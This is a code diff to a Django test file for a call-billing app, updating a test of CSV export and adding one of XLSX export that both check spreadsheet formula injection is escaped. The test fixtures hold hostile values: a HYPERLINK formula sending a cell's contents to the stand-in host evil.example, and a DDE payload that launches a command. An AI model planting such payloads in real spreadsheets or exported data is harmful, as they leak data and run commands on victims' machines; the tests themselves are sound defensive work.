@@ -9,7 +9,7 @@ import pytest
 from django.core.management import call_command
 
 from tariffs.spreadsheets import cell_text
-from tests.billing.test_calls_page import make_call
+from tests.billing.test_calls_page import make_call, viewer
 from tests.factories import SubscriberFactory
 
 NAME = '=HYPERLINK("http://evil.example/?x="&B2,"Click me")'
@@ -47,14 +47,31 @@ def hostile_call(site):
 
 
 def test_the_calls_csv_of_the_page_escapes_formulas(client, django_user_model, hostile_call):
-    # given an operator
-    client.force_login(django_user_model.objects.create(username="operator"))
+    # given an operator who may see the calls
+    viewer(client, django_user_model, "view_call")
     # when the calls are exported from the page
-    text = client.get("/calls/", {"export": "csv"}).content.decode()
+    response = client.get("/calls/", {"export": "csv"})
+    text = b"".join(response.streaming_content).decode()
     # then the name and the numbers are text, not formulas
     (row,) = csv.DictReader(io.StringIO(text))
     assert (row["subscriber"], row["dialled"], row["extension"]) == (
         "'" + NAME, "'" + CALLER, "'+cmd|' /C calc'!A0")
+
+
+def test_the_calls_xlsx_of_the_page_escapes_formulas(client, django_user_model, hostile_call):
+    # given an operator who may see the calls
+    viewer(client, django_user_model, "view_call")
+    # when the calls are exported from the page as XLSX
+    response = client.get("/calls/", {"export": "xlsx"})
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    # then the name and the numbers are text cells, not formulas, whose text is escaped
+    header = [cell.value for cell in sheet[1]]
+    cells = dict(zip(header, sheet[2], strict=True))
+    for name, value in (("subscriber", NAME), ("dialled", CALLER),
+                        ("extension", "+cmd|' /C calc'!A0")):
+        assert (cells[name].data_type, cells[name].value) == ("s", "'" + value)
+    # and the cost of the call (none: not rated) and its duration are no text
+    assert cells["cost"].value is None and cells["duration"].data_type == "n"
 
 
 def test_export_calls_escapes_formulas_in_csv_and_xlsx(hostile_call, tmp_path):
